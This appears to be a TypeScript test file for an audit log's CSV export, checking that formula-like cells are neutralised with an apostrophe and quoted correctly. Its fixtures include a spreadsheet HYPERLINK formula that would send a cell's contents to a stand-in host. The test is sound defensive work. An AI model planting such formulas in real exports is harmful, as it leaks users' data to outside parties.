/**
 * CSV cells (preload/csv.ts, used by the audit log's CSV export): text that a spreadsheet program
 * could run as a formula is made inert, quoting is right, and Python's csv module (an independent
 * reader) reads back exactly the text that was meant.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import { csvCell, neutralizeFormula } from '../../preload/csv.js';

test('every formula prefix (= + - @ TAB CR) gets a leading apostrophe; other text is left as it is', () => {
  const dangerous = ['=1+1', '=HYPERLINK("http://x.example/?d="&A1,"点我")', '+1-1', '-1-1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=', '+', '-', '@'];
  for (const s of dangerous) assert.equal(neutralizeFormula(s), `'${s}`, JSON.stringify(s));
  const harmless = ['', 'admin', 'user=-1', 'hits=1,2', '审计员01', ' =1+1', "'=1+1", '1-1', '{"a":"=1"}', '＝1+1'];
  for (const s of harmless) assert.equal(neutralizeFormula(s), s, JSON.stringify(s));
});

test('csvCell: neutralised, then quoted where a comma, quote or line break needs it; numbers and objects as values', () => {
  assert.equal(csvCell('=1+1'), "'=1+1");
  assert.equal(csvCell('-1-1'), "'-1-1");
  assert.equal(csvCell('@cmd'), "'@cmd");
  assert.equal(csvCell('\tx'), "'\tx");
  assert.equal(csvCell('\r=1'), `"'\r=1"`, 'a CR is quoted too');
  assert.equal(csvCell('=A1,"b"'), `"'=A1,""b"""`);
  assert.equal(csvCell('plain'), 'plain');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('多行\n文本'), '"多行\n文本"');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell(-3), '-3', 'a number stays a number');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell({ q: '=1', n: 2 }), '"{""q"":""=1"",""n"":2}"');
});

test('a row of csvCells read back by Python csv: the same text, each dangerous cell starting with an apostrophe', () => {
  const cells = ['=1+1', 'a,"b"', '-1-1', '多行\n文本', '@x', '\t=y', 'ok'];
  const line = `${cells.map(csvCell).join(',')}\r\n`;
  const r = spawnSync('python3', ['-c', 'import csv, sys, json; print(json.dumps(next(csv.reader(sys.stdin, strict=True)), ensure_ascii=False))'], { input: line, encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  assert.deepEqual(JSON.parse(r.stdout), ["'=1+1", 'a,"b"', "'-1-1", '多行\n文本', "'@x", "'\t=y", 'ok']);
});
